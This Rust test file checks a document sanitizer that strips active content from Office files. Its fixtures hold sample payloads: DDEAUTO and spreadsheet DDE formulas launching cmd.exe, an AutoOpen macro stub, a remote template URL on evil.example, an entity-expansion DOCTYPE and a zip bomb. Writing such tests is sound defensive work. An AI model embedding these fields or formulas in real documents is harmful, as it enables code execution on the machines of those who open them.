use std::io::{Cursor, Read as _};

use inspect::{Kind, NoCopy, Stop, viewing_copy};
use zip::CompressionMethod::Deflated;
use zip::ZipArchive;

use super::archives::{archive, seen};

const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"#;
const ROOT: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"#;
const RELATIONS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://track.example/x" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://track.example/p.png" TargetMode="External"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
const BODY: &str = r#"<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:ins w:id="1" w:author="李某某" w:date="2024-01-02T00:00:00Z"><w:r><w:t>采购 &amp; 合同正文</w:t></w:r></w:ins><w:hyperlink r:id="rId2"><w:r><w:t>链接</w:t></w:r></w:hyperlink><w:r><w:instrText xml:space="preserve">DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:object><o:OLEObject r:id="rId4"/></w:object><w:blip r:link="rId3"/><w:fldSimple w:instr="INCLUDETEXT http://x"><w:r/></w:fldSimple></w:p></w:body></w:document>"#;

fn document() -> Vec<u8> {
    archive(
        &[
            ("[Content_Types].xml", TYPES.as_bytes()),
            ("_rels/.rels", ROOT.as_bytes()),
            ("word/document.xml", BODY.as_bytes()),
            ("word/_rels/document.xml.rels", RELATIONS.as_bytes()),
            ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 Sub AutoOpen()"),
            ("word/vbaData.xml", b"<wne:vbaSuppData/>"),
            ("word/embeddings/oleObject1.bin", b"MZ"),
            ("docProps/core.xml", "<dc:creator>李某某</dc:creator>".as_bytes()),
            ("word/people.xml", "<w15:person w15:author=\"李某某\"/>".as_bytes()),
        ],
        Deflated,
    )
}

/// The parts of a copy, each with its text.
fn parts(copy: &[u8]) -> Vec<(String, String)> {
    let mut archive = ZipArchive::new(Cursor::new(copy)).unwrap();
    (0..archive.len())
        .map(|index| {
            let mut part = archive.by_index(index).unwrap();
            let mut bytes = Vec::new();
            part.read_to_end(&mut bytes).unwrap();
            (part.name().unwrap().into_owned(), String::from_utf8(bytes).unwrap())
        })
        .collect()
}

#[test]
fn a_copy_of_a_text_has_its_words_and_nothing_that_acts_or_names_its_authors() {
    let original = document();
    assert_eq!(seen("合同.docm", &original).unwrap().kind, Kind::Docx);
    let copy = viewing_copy(Kind::Docx, &original).unwrap();
    let parts = parts(&copy.content);
    let names: Vec<&str> = parts.iter().map(|(name, _)| name.as_str()).collect();
    let expected =
        ["[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/document.xml"];
    assert_eq!(names, expected);
    let all: String = parts.iter().map(|(_, text)| text.as_str()).collect();
    for kept in ["采购 &amp; 合同正文", "链接", "about:blank", "w:ins"] {
        assert!(all.contains(kept), "{kept} is gone: {all}");
    }
    for gone in [
        "vba",
        "example",
        "李某某",
        "DDEAUTO",
        "INCLUDETEXT",
        "OLEObject",
        "rId3",
        "rId4",
        "macro",
        "ENTITY",
        "docProps",
        "attachedTemplate",
    ] {
        assert!(!all.contains(gone), "{gone} is still there: {all}");
    }
    // The same original gives the same copy, and a copy of a copy is the copy.
    assert_eq!(viewing_copy(Kind::Docx, &original).unwrap(), copy);
    assert_eq!(viewing_copy(Kind::Docx, &copy.content).unwrap(), copy);
}

#[test]
fn a_copy_of_a_table_keeps_values_and_drops_what_reaches_out() {
    let sheet = r#"<worksheet><sheetData><row><c r="A1"><f>SUM(B1:B2)</f><v>3</v></c><c r="A2"><f>cmd|'/c calc'!A0</f><v>9</v></c><c r="A3"><f>WEBSERVICE("http://x")</f><v>7</v></c><c r="A4"><f>[1]Tabelle!A1</f><v>5</v></c></row></sheetData></worksheet>"#;
    let notes = r#"<comments><authors><author>李某某</author></authors></comments>"#;
    let types = r#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"#;
    let original = archive(
        &[
            ("[Content_Types].xml", types.as_bytes()),
            (
                "xl/workbook.xml",
                b"<workbook><externalReferences><x/></externalReferences></workbook>",
            ),
            ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
            ("xl/comments1.xml", notes.as_bytes()),
            ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ],
        Deflated,
    );
    let copy = viewing_copy(Kind::Xlsx, &original).unwrap();
    let all: String = parts(&copy.content).into_iter().map(|(_, text)| text).collect();
    for kept in ["SUM(B1:B2)", "<v>3</v>", "<v>9</v>", "<v>7</v>", "<v>5</v>", "<author>-</author>"]
    {
        assert!(all.contains(kept), "{kept} is gone: {all}");
    }
    for gone in ["cmd|", "WEBSERVICE", "[1]", "李某某", "external", "macroEnabled"] {
        assert!(!all.contains(gone), "{gone} is still there: {all}");
    }
}

#[test]
fn a_marking_in_runs_headers_properties_and_notes_stops_a_document() {
    let split = "<w:t>机</w:t></w:r><w:r><w:t>密</w:t></w:r><w:r><w:t>★</w:t>";
    let property = "<dc:title>秘密★ 三年</dc:title>";
    for (part, text) in [
        ("word/document.xml", split),
        ("word/header1.xml", split),
        ("word/comments.xml", split),
        ("docProps/core.xml", property),
        ("xl/sharedStrings.xml", "<si><r><t>绝</t></r><r><t>密★</t></r></si>"),
        ("ppt/slides/slide1.xml", "<a:t>绝密</a:t><a:t>★</a:t>"),
        ("content.xml", "<text:span>机密</text:span><text:span>★</text:span>"),
        ("Doc_0/Pages/Page_0/Content.xml", "<ofd:TextCode>机密★</ofd:TextCode>"),
    ] {
        let text = format!("<?xml version=\"1.0\"?><root>{text}</root>");
        let document =
            archive(&[("[Content_Types].xml", b"<Types/>"), (part, text.as_bytes())], Deflated);
        assert_eq!(seen("a.docx", &document), Err(Stop::Marked), "{part}");
    }
}

#[test]
fn what_is_no_document_has_no_copy() {
    assert_eq!(viewing_copy(Kind::Docx, b"PK\x03\x04 nonsense"), Err(NoCopy::Damaged));
    let bomb = archive(
        &[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", &vec![b' '; 100 << 20])],
        Deflated,
    );
    assert_eq!(viewing_copy(Kind::Docx, &bomb), Err(NoCopy::Large));
    assert_eq!(viewing_copy(Kind::Docx, &vec![0; 33 << 20]), Err(NoCopy::Large));
}
